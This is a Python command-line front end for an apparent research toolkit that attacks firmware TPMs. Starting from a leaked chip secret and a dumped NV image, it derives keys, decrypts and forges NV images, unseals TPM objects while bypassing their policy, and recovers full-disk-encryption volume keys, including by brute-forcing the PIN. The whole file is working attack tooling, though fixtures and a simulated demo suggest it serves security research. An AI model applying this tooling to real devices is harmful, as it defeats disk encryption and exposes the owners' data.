"""Command-line front end.

The hardware half of the attack (glitching the secure processor, dumping
the flash) is outside this tool; it starts from its data products: the
leaked chip secret or derivation seed and the NV image file.

Exit codes: 0 success, 1 domain failure (wrong keys, seed not found, wrong
PIN, exhausted search, extraction impossible), 2 usage or format error.
"""

import argparse
import json
import os
import random
import sys
from pathlib import Path

from . import ccp, fde, fixtures, keys, nv, tpm
from .errors import DomainFailure, FtpmError

EXIT_OK, EXIT_DOMAIN, EXIT_USAGE = 0, 1, 2


class UsageError(Exception):
    pass


def parse_hex(text: str, nbytes: int = None, what: str = "value") -> bytes:
    if text.startswith(("0x", "0X")):
        raise UsageError(f"{what}: hex must be unprefixed")
    try:
        data = bytes.fromhex(text)
    except ValueError:
        raise UsageError(f"{what}: malformed hex") from None
    if len(text) != 2 * len(data):
        raise UsageError(f"{what}: malformed hex")
    if nbytes is not None and len(data) != nbytes:
        raise UsageError(f"{what}: expected {nbytes} bytes ({2 * nbytes} hex chars), got {len(data)}")
    return data


def read_file(path: str) -> bytes:
    try:
        return Path(path).read_bytes()
    except OSError as exc:
        raise UsageError(f"cannot read {path}: {exc.strerror}") from None


def emit(args, obj, lines):
    if args.json:
        print(json.dumps(obj, sort_keys=False))
    else:
        for line in lines:
            print(line)


# -- key flags ------------------------------------------------------------------

def add_key_args(p):
    p.add_argument("--secret", help="chip-unique secret (32 hex chars)")
    p.add_argument("--seed", help="leaked derivation seed (32 hex chars)")
    p.add_argument("--constant", help="derivation constant ciphertext (32 hex chars)")
    p.add_argument("--modulus", help="firmware application signing-key modulus (hex)")
    p.add_argument("--app-id", help="application id (32 hex chars)")


def nv_keys_from_args(args) -> keys.NvKeys:
    if (args.secret is None) == (args.seed is None):
        raise UsageError("give exactly one of --secret or --seed")
    if args.modulus is None or args.app_id is None:
        raise UsageError("--modulus and --app-id are required")
    identity = keys.AppIdentity(parse_hex(args.modulus, what="--modulus"),
                                parse_hex(args.app_id, 16, "--app-id"))
    if args.secret is not None:
        if args.constant is None:
            raise UsageError("--constant is required with --secret")
        return keys.derive_from_chip_secret(parse_hex(args.secret, 16, "--secret"),
                                            parse_hex(args.constant, 16, "--constant"), identity)
    return keys.derive_nv_keys(parse_hex(args.seed, 16, "--seed"), identity)


# -- commands -------------------------------------------------------------------

def cmd_derive_keys(args):
    k = nv_keys_from_args(args)
    emit(args, k.to_json(), [f"storage:   {k.storage.hex()}", f"integrity: {k.integrity.hex()}"])
    return EXIT_OK


def cmd_nv_decrypt(args):
    k = nv_keys_from_args(args)
    image = nv.parse_image(read_file(args.image), recover=not args.strict)
    state = nv.decrypt_image(image, k)
    if args.plaintext_out:
        Path(args.plaintext_out).write_bytes(state.plaintext())
    doc = state.to_json()
    if args.json:
        print(json.dumps(doc, indent=1))
    else:
        print(f"active section: {state.active_section}")
        for ctx, rows in doc["contexts"].items():
            for row in rows:
                flag = "ok " if row["verified"] else "BAD"
                print(f"[{flag}] context {ctx} seq {row['sequence']}: "
                      + (" ".join(row["fields"]) or "-"))
        print(f"section MACs verified: {state.section_macs_verified}")
        if args.verbose and state.non_monotonic:
            print(f"non-monotonic contexts: {state.non_monotonic}")
    if state.entry_count and state.failures == state.entry_count:
        print("error: no entry verifies under these keys", file=sys.stderr)
        return EXIT_DOMAIN
    return EXIT_OK


def cmd_nv_forge(args):
    k = nv_keys_from_args(args)
    try:
        manifest = json.loads(read_file(args.manifest))
    except json.JSONDecodeError as exc:
        raise UsageError(f"manifest is not valid JSON: {exc}") from None
    image = fixtures.forge_image(manifest, k)
    Path(args.out).write_bytes(image)
    emit(args, {"out": args.out, "size": len(image)}, [f"wrote {len(image)} bytes to {args.out}"])
    return EXIT_OK


def _load_object(args):
    if args.blob:
        return tpm.split_blob(read_file(args.blob))
    if not (args.public and args.private):
        raise UsageError("give --blob or both --public and --private")
    pub_r = tpm.Reader(read_file(args.public))
    public = tpm.TpmPublic.from_bytes(pub_r.tpm2b())
    pub_r.expect_done("public blob")
    priv_r = tpm.Reader(read_file(args.private))
    private = tpm.TpmPrivate.from_bytes(priv_r.tpm2b())
    priv_r.expect_done("private blob")
    return private, public


def _find_seed(args, public, private):
    if args.seed:
        return tpm.SeedMatch(None, parse_hex(args.seed, 32, "--seed"), [])
    if not args.nv_plaintext:
        raise UsageError("give --nv-plaintext or --seed")
    return tpm.find_primary_seed(read_file(args.nv_plaintext), public, private,
                                 find_all=args.verbose)


def cmd_unseal(args):
    private, public = _load_object(args)
    match = _find_seed(args, public, private)
    sens = tpm.unseal_object(public, private, match.seed)
    doc = {
        "seed_offset": match.offset,
        "primary_seed": match.seed.hex(),
        "auth_value": sens.auth_value.hex(),
        "seed_value": sens.seed_value.hex(),
        "sensitive_data": sens.sensitive_data.hex(),
    }
    lines = [f"{k}: {'-' if v is None else v}" for k, v in doc.items()]
    if args.verbose and match.all_offsets:
        doc["all_offsets"] = match.all_offsets
        lines.append(f"all verifying offsets: {match.all_offsets}")
    emit(args, doc, lines)
    return EXIT_OK


def cmd_find_seed(args):
    private, public = _load_object(args)
    if not args.nv_plaintext:
        raise UsageError("find-seed needs --nv-plaintext")
    args.seed = None
    match = _find_seed(args, public, private)
    doc = {"seed_offset": match.offset, "primary_seed": match.seed.hex()}
    lines = [f"offset: {match.offset}", f"primary seed: {match.seed.hex()}"]
    if args.verbose:
        doc["all_offsets"] = match.all_offsets
        lines.append(f"all verifying offsets: {match.all_offsets}")
    emit(args, doc, lines)
    return EXIT_OK


def cmd_vmk(args):
    metadata = fde.parse_volume_metadata(read_file(args.metadata))
    plaintext = read_file(args.nv_plaintext)
    report = {"protector": args.mode, "vmk": None, "passphrase": None,
              "attempts": None, "elapsed_s": None}
    if args.mode == "tpm-only":
        vmk = fde.extract_vmk_tpm_only(metadata.get(fde.DatumType.TPM_ENCODED), plaintext)
        report["vmk"] = vmk.hex()
        emit(args, report, [vmk.hex()])
    elif args.mode == "naive":
        phrase = fde.extract_key_naive(metadata, plaintext)
        report["passphrase"] = phrase
        emit(args, report, [phrase])
    elif args.crack:
        result = fde.brute_force_pin(metadata, plaintext, fde.enumerate_pins(args.charset, args.length))
        report.update(vmk=result.vmk.hex(), attempts=result.attempts,
                      elapsed_s=round(result.elapsed_s, 3), pin=result.pin)
        emit(args, report, [
            result.vmk.hex(),
            f"pin: {result.pin}",
            f"attempts: {result.attempts}",
            f"rate: {result.rate:.1f} guesses/s (elapsed {result.elapsed_s:.2f} s)",
        ])
    else:
        if not args.pin:
            raise UsageError("tpm-pin mode needs --pin or --crack")
        vmk = fde.extract_vmk_tpm_pin(metadata, plaintext, args.pin)
        report.update(vmk=vmk.hex(), attempts=1)
        emit(args, report, [vmk.hex()])
    return EXIT_OK


def cmd_lsb_demo(args):
    # Slot 0 holds the chip secret; default to the fixture one so runs repeat.
    secret = parse_hex(args.seed_slot, 16, "--seed-slot") if args.seed_slot else fixtures.FIXTURE_SECRET
    policy = ccp.AlignmentPolicy(args.mode)
    engine = ccp.Ccp(ccp.LsbState(secret, slots=args.slots), policy)
    result = ccp.extract_from_ccp(engine)
    doc = {
        "recovered": result.recovered.hex(),
        "op_count": result.op_count,
        "candidates_per_window": result.candidates_per_window,
        "matches_planted": result.recovered == secret,
    }
    emit(args, doc, [
        f"recovered slot 0: {result.recovered.hex()}",
        f"op_count: {result.op_count}",
        f"candidates per window: {result.candidates_per_window}",
    ])
    return EXIT_OK


def cmd_estimate(args):
    if args.table:
        rows = fde.bruteforce_table()
        doc = [{"secret": d, "entropy_bits": b, "ftpm": f, "dtpm": t} for d, b, f, t in rows]
        lines = [f"{'PIN/password':<14} {'entropy':>7}  {'fTPM':>10}  {'dTPM':>12}"]
        lines += [f"{d:<14} {'2^' + str(b):>7}  {f:>10}  {t:>12}" for d, b, f, t in rows]
        emit(args, doc, lines)
        return EXIT_OK
    if args.entropy is None:
        raise UsageError("give --table or --entropy")
    rate = fde.FTPM_RATE if args.tpm == "ftpm" else fde.DTPM_RATE
    seconds = fde.estimate_bruteforce_time(args.entropy, rate)
    text = fde.render_duration(seconds)
    emit(args, {"entropy_bits": args.entropy, "tpm": args.tpm, "seconds": seconds, "time": text}, [text])
    return EXIT_OK


def cmd_fixtures(args):
    out = args.out or os.environ.get("FTPM_FORGE_FIXTURES")
    if not out:
        raise UsageError("give --out or set FTPM_FORGE_FIXTURES")
    index = fixtures.write_fixture_dir(Path(out), args.rng_seed, args.rounds, args.pin)
    emit(args, index, [f"wrote fixtures to {out}"] + [f"  {name}" for name in index["files"]])
    return EXIT_OK


# -- parser ---------------------------------------------------------------------

def build_parser() -> argparse.ArgumentParser:
    common = argparse.ArgumentParser(add_help=False)
    common.add_argument("--json", action="store_true", default=argparse.SUPPRESS,
                        help="machine-readable output")
    common.add_argument("--verbose", action="store_true", default=argparse.SUPPRESS)

    parser = argparse.ArgumentParser(prog="ftpmkit", description=__doc__.splitlines()[0])
    parser.add_argument("--json", action="store_true", help="machine-readable output")
    parser.add_argument("--verbose", action="store_true")
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("derive-keys", parents=[common], help="derive NV storage/integrity keys")
    add_key_args(p)
    p.set_defaults(func=cmd_derive_keys)

    p = sub.add_parser("nv-decrypt", parents=[common], help="parse, verify and decrypt an NV image")
    p.add_argument("--image", required=True)
    add_key_args(p)
    p.add_argument("--plaintext-out", help="write concatenated verified fields here")
    p.add_argument("--strict", action="store_true", help="fail on framing damage instead of resyncing")
    p.set_defaults(func=cmd_nv_decrypt)

    p = sub.add_parser("nv-forge", parents=[common], help="encode a manifest into an NV image")
    p.add_argument("--manifest", required=True)
    add_key_args(p)
    p.add_argument("--out", required=True)
    p.set_defaults(func=cmd_nv_forge)

    for name, func, hlp in (("unseal", cmd_unseal, "unseal a TPM object without its policy"),
                            ("find-seed", cmd_find_seed, "locate the primary seed in NV plaintext")):
        p = sub.add_parser(name, parents=[common], help=hlp)
        p.add_argument("--public")
        p.add_argument("--private")
        p.add_argument("--blob", help="concatenated private||public blob")
        p.add_argument("--nv-plaintext")
        if name == "unseal":
            p.add_argument("--seed", help="primary seed (64 hex chars), skips the search")
        p.set_defaults(func=func, seed=None)

    p = sub.add_parser("vmk", parents=[common], help="recover a volume key from FDE metadata")
    p.add_argument("--mode", required=True, choices=("tpm-only", "tpm-pin", "naive"))
    p.add_argument("--metadata", required=True)
    p.add_argument("--nv-plaintext", required=True)
    p.add_argument("--pin")
    p.add_argument("--crack", action="store_true", help="brute-force the PIN")
    p.add_argument("--charset", default="digits")
    p.add_argument("--length", type=int, default=4)
    p.set_defaults(func=cmd_vmk)

    p = sub.add_parser("lsb-demo", parents=[common], help="simulated protected-slot extraction")
    p.add_argument("--slots", type=int, default=ccp.DEFAULT_SLOTS)
    p.add_argument("--mode", choices=("unaligned", "aligned"), default="unaligned")
    p.add_argument("--seed-slot", help="contents of protected slot 0 (32 hex chars; default: fixture chip secret)")
    p.set_defaults(func=cmd_lsb_demo)

    p = sub.add_parser("estimate", parents=[common], help="brute-force time estimates")
    p.add_argument("--table", action="store_true")
    p.add_argument("--entropy", type=int)
    p.add_argument("--tpm", choices=("ftpm", "dtpm"), default="ftpm")
    p.set_defaults(func=cmd_estimate)

    p = sub.add_parser("fixtures", parents=[common], help="write a complete fixture set")
    p.add_argument("--out", help="directory (default: $FTPM_FORGE_FIXTURES)")
    p.add_argument("--rounds", type=int, default=fde.DEFAULT_ROUNDS)
    p.add_argument("--pin", default="0042")
    p.add_argument("--rng-seed", type=lambda s: int(s, 0), default=0x5EED)
    p.set_defaults(func=cmd_fixtures)
    return parser


def main(argv=None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    try:
        return args.func(args)
    except DomainFailure as exc:
        print(f"error: {type(exc).__name__}: {exc}", file=sys.stderr)
        return EXIT_DOMAIN
    except (UsageError, FtpmError, ValueError) as exc:
        name = "usage" if isinstance(exc, UsageError) else type(exc).__name__
        print(f"error: {name}: {exc}", file=sys.stderr)
        return EXIT_USAGE


if __name__ == "__main__":
    sys.exit(main())
